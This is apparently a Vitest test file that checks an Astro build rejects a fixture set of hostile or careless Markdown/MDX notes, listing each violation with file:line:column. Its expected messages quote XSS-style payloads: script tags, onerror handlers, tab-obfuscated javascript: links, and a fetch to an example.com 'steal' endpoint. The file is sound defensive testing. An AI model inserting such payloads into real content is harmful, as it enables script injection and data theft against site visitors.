/**
 * `astro build` on a site whose every note is an attack or a careless mistake (tests/fixtures/content-policy):
 * the build fails before anything renders, listing every problem of every note with file:line:column.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { expect, it } from 'vitest';
import { isolatedProject, localBin } from '../helpers/isolated-project';

const tree = 'tests/fixtures/content-policy';

it('fails the build on every attack fixture at once, each with file:line:column and no stack trace', () => {
  const project = isolatedProject('content', [tree]);
  try {
    const run = spawnSync(localBin('astro'), ['build'], {
      cwd: project.root,
      env: { ...process.env, CONTENT_DIR: tree, FORCE_COLOR: '0', NO_COLOR: '1' },
      encoding: 'utf8',
    });
    const output = `${run.stdout}\n${run.stderr}`;
    expect(run.status, output).not.toBe(0);
    expect(output).toContain('58 content-policy problems need fixing:');
    const notes = `${tree}/notes`;
    for (const line of [
      `${notes}/script.md:9:1: <script> is not allowed in a note`,
      `${notes}/onerror-in-table-cell.md:11:10: onerror= on <img>`,
      `${notes}/meta-refresh.md:9:1: <meta> is not allowed in a note`,
      `${notes}/form.md:9:1: <form> is not allowed in a note`,
      `${notes}/iframe.md:9:1: <iframe> is not allowed in a note`,
      `${notes}/object-embed.md:11:1: <embed> is not allowed in a note`,
      `${notes}/base.md:9:1: <base> is not allowed in a note`,
      `${notes}/javascript-tab-entity.md:9:7: <a> href="java\\tscript:alert(1)" runs script`,
      `${notes}/split-attribute.md:11:1: <script> is not allowed`,
      `${notes}/svg-script.md:9:6: <script> is not allowed`,
      `${notes}/html-external-link.md:9:6: <a href="https://example.org/unregistered"> is a link written as HTML or JSX`,
      `${notes}/jsx-upper-case-href.mdx:9:9: <a HREF="https://example.org/unregistered"> is a link written as HTML or JSX`,
      `${notes}/jsx-javascript-href.mdx:9:4: <a> href="javascript:alert(1)" runs script`,
      `${notes}/mdx-fetch.mdx:9:9: {fetch("https://example.com/steal")} is JavaScript`,
      `${notes}/mdx-import.mdx:9:1: \`import Chart from`,
      `${notes}/set-html.mdx:9:6: set:html on <div>`,
      `${notes}/spread-attributes.mdx:9:6: a spread attribute`,
    ]) {
      expect(output).toContain(line);
    }
    // One message per problem, every fixture named: nothing was built from them.
    for (const name of readdirSync(join(project.root, notes))) expect(output).toContain(`${notes}/${name}:`);
    expect(existsSync(join(project.root, 'dist'))).toBe(false);
    expect(output).not.toMatch(/^\s+at /m);
  } finally {
    project.dispose();
  }
});
